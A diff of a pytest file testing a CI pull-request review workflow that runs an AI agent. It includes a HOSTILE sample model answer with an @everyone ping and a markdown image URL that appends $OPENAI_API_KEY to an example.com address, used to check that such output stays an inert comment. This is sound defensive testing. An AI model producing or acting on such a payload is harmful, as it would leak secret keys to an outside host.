@@ -14,7 +14,7 @@ import yaml
 from tests.support.wire.plugin import OpenWire
 from tests.support.wire.server import Answer, Fault, WireServer
 from tests.support.workflows import gitlab
-from tests.support.workflows.github import Job, Machine, fake_artifacts, fake_checkout
+from tests.support.workflows.github import Job, fake_artifacts, fake_checkout
 from tests.support.workflows.machines import (
     KEY,
     ROOT,
@@ -27,7 +27,7 @@ from tests.support.workflows.machines import (
 )
 
 CONFIGS = ROOT / "configs"
-TOKEN = "ghs_0123456789abcdefghijABCDEFGHIJ012345"
+TOKEN = "ghs_0123456789abcdefghijABCDEFGHIJ012345"  # noqa: S105 - nobody's
 HOSTILE = """\
 Thanks! @everyone <img src="https://example.com/x.png"> ![x](https://example.com/$OPENAI_API_KEY)
 ```
@@ -43,7 +43,7 @@ def server(wire: OpenWire) -> WireServer:
     return wire(Answer("app.py:1: it prints two.", input_tokens=1000, output_tokens=100), keys=[KEY], repeat=True)
 
 
-def review(tmp_path: Path, server: WireServer, *, fork: bool = False) -> tuple[dict[str, Job], Machine]:
+def review(tmp_path: Path, server: WireServer, *, fork: bool = False) -> dict[str, Job]:
     """Run the review of a pull request; ``gh`` writes down what it is told."""
     source, base = repository(tmp_path / "project")
     folder = tmp_path / "machine"
@@ -66,11 +66,11 @@ def review(tmp_path: Path, server: WireServer, *, fork: bool = False) -> tuple[d
         "OWNER/agentctl": ROOT,
         **fake_artifacts(tmp_path / "artifacts", place.workspace),
     }
-    return place.run(CONFIGS / "github-review.yml"), place
+    return place.run(CONFIGS / "github-review.yml")
 
 
 def test_review_is_written_by_a_job_that_ran_no_agent(tmp_path: Path, server: WireServer) -> None:
-    jobs, place = review(tmp_path, server)
+    jobs = review(tmp_path, server)
     assert {name: job.result for name, job in jobs.items()} == {"review": "success", "comment": "success"}, jobs
     assert (tmp_path / "gh").read_text().split() == [
         *("pr", "comment", "7", "--repo", "someone/project", "--body-file", "comment.md")
@@ -88,7 +88,7 @@ def test_review_is_written_by_a_job_that_ran_no_agent(tmp_path: Path, server: Wi
 
 def test_review_that_is_hostile_is_a_comment_and_nothing_else(tmp_path: Path, server: WireServer) -> None:
     server.play(Answer(HOSTILE))
-    jobs, place = review(tmp_path, server)
+    jobs = review(tmp_path, server)
     assert jobs["comment"].result == "success"
     comment = (tmp_path / "comment.md").read_text().rstrip("\n")
     opening = next(line for line in comment.splitlines() if line.startswith("`"))
@@ -103,7 +103,7 @@ def test_review_that_is_hostile_is_a_comment_and_nothing_else(tmp_path: Path, se
 @pytest.mark.parametrize("fork", [True, False])
 def test_review_without_an_answer_writes_no_comment(tmp_path: Path, server: WireServer, fork: bool) -> None:
     server.play(Fault(401))
-    jobs, _ = review(tmp_path, server, fork=fork)
+    jobs = review(tmp_path, server, fork=fork)
     expected = "skipped" if fork else "failure"
     assert {name: job.result for name, job in jobs.items()} == {"review": expected, "comment": "skipped"}
     assert not (tmp_path / "gh").exists()
@@ -182,7 +182,7 @@ def test_gitlab_job_keeps_the_answer_and_its_reports(tmp_path: Path, server: Wir
     assert set(job.kept) == {"answer.txt", "agent.xml", "agent.env"}
     assert job.kept["answer.txt"] == "app.py:1: it prints two.\n"
     assert job.variables["AGENT_STATUS"] == "done"
-    suite = Xml.fromstring(job.kept["agent.xml"]).find("testsuite")
+    suite = Xml.fromstring(job.kept["agent.xml"]).find("testsuite")  # noqa: S314 - our own
     assert suite is not None
     assert (suite.attrib["tests"], suite.attrib["failures"], suite.attrib["errors"]) == ("1", "0", "0")
 
